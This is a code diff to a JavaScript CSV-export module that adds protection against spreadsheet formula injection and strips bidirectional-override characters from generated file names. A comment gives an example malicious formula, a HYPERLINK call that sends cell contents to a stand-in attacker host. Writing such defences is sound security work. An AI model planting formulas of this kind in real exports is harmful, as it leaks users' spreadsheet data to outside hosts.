@@ -6,14 +6,25 @@
 // format is four rules (comma-separated, CRLF-terminated records, fields with
 // a comma, quote, CR or LF in double quotes, quotes doubled), and the tests
 // read the files back with an independent parser (Python's csv module).
+//
+// CSV injection: a spreadsheet program runs a cell that begins with `=`,
+// `+`, `-` or `@` (or TAB or CR before one) as a formula, such as
+// `=HYPERLINK("https://evil.example/?"&A1, "details")`. As OWASP's CSV
+// Injection guidance says, such a cell is written with a `'` before it
+// (then quoted by the rules above when it must be), so it is shown as text;
+// the `'` is in the file, and a reader that is not a spreadsheet sees it.
 
 export const CSV_COLUMNS = ['id', 'name', 'description', 'status', 'size_gb', 'volume_id', 'created_at', 'updated_at', 'metadata'];
 
 const BOM = '\uFEFF';
 
-/** One field: `null`/`undefined` → empty; quoted when it has to be. */
+/** The first characters that make a spreadsheet read a cell as a formula. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** One field: `null`/`undefined` → empty; a `'` before a formula-like value; quoted when it has to be. */
 export function csvField(value) {
-  const s = value === null || value === undefined ? '' : String(value);
+  let s = value === null || value === undefined ? '' : String(value);
+  if (FORMULA_START.test(s)) s = `'${s}`;
   return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
 }
 
@@ -64,10 +75,10 @@ export const FORMATS = {
   },
 };
 
-/** A piece of a file name: no path separators, reserved or control characters, at most `max` characters. */
+/** A piece of a file name: no path separators, reserved, control or bidirectional-override characters, at most `max` characters. */
 function namePart(text, max = 48) {
   const clean = String(text)
-    .replace(/[\\/:*?"<>|\p{Cc}\s]+/gu, '-')
+    .replace(/[\\/:*?"<>|\p{Cc}\s\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]+/gu, '-')
     .replace(/^[-.]+|[-.]+$/g, '');
   return [...clean].slice(0, max).join('') || '_';
 }
